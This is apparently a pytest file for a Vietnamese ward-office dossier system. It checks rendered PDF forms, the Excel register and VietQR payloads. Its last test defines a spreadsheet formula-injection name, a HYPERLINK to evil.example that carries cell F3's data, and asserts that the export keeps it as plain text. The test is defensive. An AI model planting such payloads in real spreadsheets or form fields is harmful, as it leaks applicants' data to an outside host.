"""The forms as a citizen holds them: PDFs rendered with pdftoppm and read back with pdftotext."""

import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from haicap.core.dateline import date_line
from haicap.dossiers.paperwork import form_pdf, register_pdf, register_xlsx
from haicap.dossiers.services import dossier_intake, dossier_transition
from haicap.dossiers.tests.conftest import at
from haicap.dossiers.vietqr import crc16_ccitt, vietqr_payload
from haicap.workdays.calendar import VN

pytestmark = pytest.mark.django_db
needs_poppler = pytest.mark.skipif(
    shutil.which("pdftotext") is None, reason="poppler-utils not installed"
)


def dated_at_ben_thanh() -> str:
    """The date line a form printed today by Phường Bến Thành's desk carries."""
    return date_line("Bến Thành", timezone.now().astimezone(VN))


def read_back(pdf: bytes, tmp_path, name: str = "form") -> str:
    path = tmp_path / "form.pdf"
    path.write_bytes(pdf)
    if os.environ.get("HAICAP_KEEP_FORMS"):  # for a person to look at: var/forms/<name>.pdf
        keep = Path(__file__).resolve().parents[3] / "var" / "forms"
        keep.mkdir(parents=True, exist_ok=True)
        (keep / f"{name}.pdf").write_bytes(pdf)
    subprocess.run(
        ["pdftoppm", "-r", "50", "-png", "-singlefile", str(path), str(tmp_path / "page")],
        check=True,
    )
    assert (tmp_path / "page.png").stat().st_size > 1000  # it renders to a real page
    text = subprocess.run(
        ["pdftotext", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    return " ".join(text.split())  # table cells wrap: compare with white space folded


@needs_poppler
def test_receipt_slip(intake, counter_officer, tmp_path):
    d = dossier_intake(intake, actor=counter_officer, now=at(2025, 7, 1, 9, 5))
    text = read_back(form_pdf(d, "01"), tmp_path, "01")
    assert "PHIẾU TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ" in text
    for expected in (
        d.code,
        "Nguyễn Thị Mai",
        "0903123456",
        "09 giờ 05 phút, ngày 01/07/2025",
        "Phường Bến Thành",
        "CỘNG HOÀ XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Số thứ tự 01",
        dated_at_ben_thanh(),
    ):
        assert expected in text, expected


@needs_poppler
def test_supplement_refusal_apology_stop_and_control_sheet(
    intake, counter_officer, processing_officer, leader, tmp_path
):
    items = [{"name": "Giấy chứng sinh", "kind": "certified", "reason": "bản chụp không rõ"}]
    s = dossier_intake(intake, actor=counter_officer, outcome="supplement", missing_items=items)
    text = read_back(form_pdf(s, "02"), tmp_path, "02")
    assert (
        "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ" in text
        and "Bản sao có chứng thực" in text
        and "bản chụp không rõ" in text
        and dated_at_ben_thanh() in text
    )
    r = dossier_intake(
        intake,
        actor=counter_officer,
        outcome="refuse",
        refusal_reason="Không thuộc thẩm quyền giải quyết",
    )
    text = read_back(form_pdf(r, "03"), tmp_path)
    assert "Không thuộc thẩm quyền giải quyết" in text and dated_at_ben_thanh() in text
    d = dossier_intake(intake, actor=counter_officer, now=at(2025, 7, 1, 9))
    d = dossier_transition(d, action="transfer", actor=counter_officer, now=at(2025, 7, 1, 9, 30))
    d = dossier_transition(
        d,
        action="apologize",
        actor=processing_officer,
        reason="Chờ xác minh của Công an",
        new_due="2025-07-10",
        now=at(2025, 7, 1, 10),
    )
    text = read_back(form_pdf(d, "04"), tmp_path)
    assert (
        "PHIẾU XIN LỖI VÀ HẸN LẠI NGÀY TRẢ KẾT QUẢ" in text
        and "Chờ xác minh của Công an" in text
        and "10/07/2025" in text
        and dated_at_ben_thanh() in text
    )
    d = dossier_transition(d, action="stop", actor=leader, reason="Công dân không bổ sung")
    text = read_back(form_pdf(d, "05"), tmp_path)
    assert "Công dân không bổ sung" in text and dated_at_ben_thanh() in text
    text = read_back(form_pdf(d, "06"), tmp_path, "06")
    assert (
        "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ" in text and "Chuyển cơ quan giải quyết" in text
    )


@needs_poppler
def test_register_pdf_and_excel(intake, counter_officer, ben_thanh, tmp_path):
    first = dossier_intake(intake, actor=counter_officer, now=at(2025, 7, 1, 9))
    dossier_intake(intake, actor=counter_officer, now=at(2025, 7, 2, 9))
    text = read_back(register_pdf(ben_thanh, 2025), tmp_path, "07")
    assert "SỔ THEO DÕI HỒ SƠ" in text and first.code in text
    # the header names the place (it printed ", ngày 02 tháng 12 năm 2026")
    assert dated_at_ben_thanh() in text and ", ngày" not in text.split(dated_at_ben_thanh())[0]
    sheet = load_workbook(io.BytesIO(register_xlsx(ben_thanh, 2025))).active
    assert (
        sheet.cell(3, 1).value == "01"
        and sheet.cell(3, 2).value == first.code
        and sheet.cell(4, 1).value == "02"
    )


def test_form_that_does_not_apply_is_refused(intake, counter_officer):
    from haicap.core.errors import ApplicationError

    d = dossier_intake(intake, actor=counter_officer)
    with pytest.raises(ApplicationError):
        form_pdf(d, "03")


def test_vietqr_payload_and_crc():
    assert crc16_ccitt(b"123456789") == 0x29B1  # the standard check value
    payload = vietqr_payload(
        bank_bin="970415", account="113366668888", amount=50000, purpose="PHI 26743-250701-0001"
    )
    assert (
        payload.startswith("000201010212")
        and "5303704" in payload
        and "540550000" in payload
        and "5802VN" in payload
    )
    assert payload[-8:-4] == "6304" and int(payload[-4:], 16) == crc16_ccitt(payload[:-4].encode())
    with pytest.raises(ValueError):
        vietqr_payload(bank_bin="97", account="1", amount=1, purpose="x")


EVIL_NAME = '=HYPERLINK("http://evil.example/?"&F3,"Nguyễn Thị Mai")'


def test_register_excel_has_no_formula_from_an_applicant(
    intake, counter_officer, ben_thanh, applicant
):
    import dataclasses

    evil = dataclasses.replace(intake, applicant=dataclasses.replace(applicant, name=EVIL_NAME))
    dossier_intake(evil, actor=counter_officer, now=at(2025, 7, 1, 9))
    sheet = load_workbook(io.BytesIO(register_xlsx(ben_thanh, 2025))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert EVIL_NAME in [c.value for c in cells]  # shown as the applicant wrote it
